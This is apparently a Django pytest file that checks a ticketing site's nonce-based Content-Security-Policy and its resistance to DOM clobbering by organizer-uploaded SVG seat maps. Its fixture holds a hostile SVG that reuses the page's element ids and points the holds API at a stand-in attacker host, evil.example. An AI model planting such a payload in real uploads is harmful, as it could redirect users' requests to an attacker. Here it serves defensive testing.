"""Every HTML page carries a nonce-based Content-Security-Policy and runs no script it forbids;
the event page keeps its own data out of reach of the organizer's SVG."""

import re
import time
from datetime import timedelta
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.utils import timezone

from tests.conftest import create_ga_event, create_seated_event

pytestmark = pytest.mark.django_db

HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40">
  <text id="event-config">{"api": {"holds": "https://evil.example/holds"}}</text>
  <text id="seat-geometry">{"ids": []}</text>
  <g data-section="A"><circle id="hold-button" data-seat="A-1-1" cx="10" cy="10" r="4"/></g>
</svg>"""


def policy_of(response) -> dict[str, list[str]]:
    header = response.headers.get("Content-Security-Policy")
    assert header, f"no Content-Security-Policy on {response.request['PATH_INFO']}"
    directives = {}
    for part in header.split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


class Scripts(HTMLParser):
    """The attributes of every <script>, and where the page's <head> ends."""

    def __init__(self):
        super().__init__()
        self.scripts: list[tuple[dict, bool]] = []
        self.in_head = True

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.scripts.append((dict(attrs), self.in_head))
        elif tag == "body":
            self.in_head = False

    def handle_endtag(self, tag):
        if tag == "head":
            self.in_head = False


def scripts_of(html: str) -> Scripts:
    parser = Scripts()
    parser.feed(html)
    return parser


def hostile_event(organizer):
    from seatmaps.models import Venue
    from seatmaps.services import import_svg_map
    from ticketing.models import Event, PriceCategory

    venue = Venue.objects.create(name="Arena", city="Köln")
    seat_map, _ = import_svg_map(venue, "Clobber", HOSTILE_SVG)
    now = timezone.now()
    event = Event.objects.create(
        organizer=organizer,
        title="Hostile map",
        slug=f"hostile-{time.monotonic_ns()}",
        venue=venue,
        seat_map=seat_map,
        starts_at=now + timedelta(days=3),
        ends_at=now + timedelta(days=3, hours=2),
        status=Event.Status.ON_SALE,
    )
    category = PriceCategory.objects.create(event=event, name="A", price=Decimal("10.00"))
    category.sections.set(seat_map.sections.all())
    return event


@pytest.fixture
def html_pages(organizer):
    seated = create_seated_event(organizer)
    ga = create_ga_event(organizer)
    hostile = hostile_event(organizer)
    return [
        "/events/",
        f"/events/{seated.pk}/",
        f"/events/{ga.pk}/",
        f"/events/{hostile.pk}/",
        "/admin/login/",
        "/api/v1/docs/",
    ]


def test_every_html_page_carries_a_nonce_policy_without_inline_or_foreign_scripts(html_pages):
    client = Client()
    nonces = set()
    for path in html_pages:
        # when each page is fetched
        response = client.get(path)
        assert response.status_code == 200, path
        assert response["Content-Type"].startswith("text/html"), path
        policy = policy_of(response)
        # then scripts come from our origin or carry this response's nonce, nothing else
        script_src = policy["script-src"]
        nonce = [v for v in script_src if v.startswith("'nonce-")]
        assert len(nonce) == 1, (path, script_src)
        nonces.add(nonce[0])
        assert set(script_src) == {"'self'", nonce[0]}, (path, script_src)
        assert "'unsafe-inline'" not in policy.get("default-src", []), path
        # and plugins, <base> and framing are off, connections stay on our origin
        assert policy["object-src"] == ["'none'"], path
        assert policy["base-uri"] == ["'none'"], path
        assert policy["frame-ancestors"] == ["'none'"], path
        assert policy["connect-src"] == ["'self'"], path
        assert policy["default-src"] == ["'self'"], path
    # and every response has a nonce of its own
    assert len(nonces) == len(html_pages)


def test_no_page_has_a_script_that_its_policy_would_block(html_pages):
    # given the pages, with the policy in force
    client = Client()
    for path in html_pages:
        response = client.get(path)
        nonce = next(v for v in policy_of(response)["script-src"] if v.startswith("'nonce-"))
        # then every script is a data block, loaded from our origin, or carries the nonce
        for attrs, _ in scripts_of(response.content.decode()).scripts:
            if attrs.get("type") == "application/json":
                continue
            src = attrs.get("src")
            if src is not None:
                assert src.startswith("/") and not src.startswith("//"), (path, src)
            else:
                assert f"'nonce-{attrs.get('nonce')}'" == nonce, (path, attrs)


def test_the_event_page_keeps_its_data_in_head_and_the_map_has_no_page_ids(organizer):
    # given an event whose uploaded map uses the ids of the page's data and buttons
    event = hostile_event(organizer)
    # when the page is rendered
    html = Client().get(f"/events/{event.pk}/").content.decode()
    # then the page's data blocks are in <head>, apart from the body that inlines the map...
    data_blocks = {
        attrs["id"]: in_head
        for attrs, in_head in scripts_of(html).scripts
        if attrs.get("type") == "application/json"
    }
    assert data_blocks == {"event-config": True, "seat-geometry": True}
    # ...and each of these ids is on exactly one element: the page's own
    for page_id in ("event-config", "seat-geometry"):
        assert len(re.findall(rf'\sid="{page_id}"', html)) == 1, page_id
    assert len(re.findall(r'\sid="hold-button"', html)) == 0  # logged out: no button at all
    assert 'data-seat-id="' in html
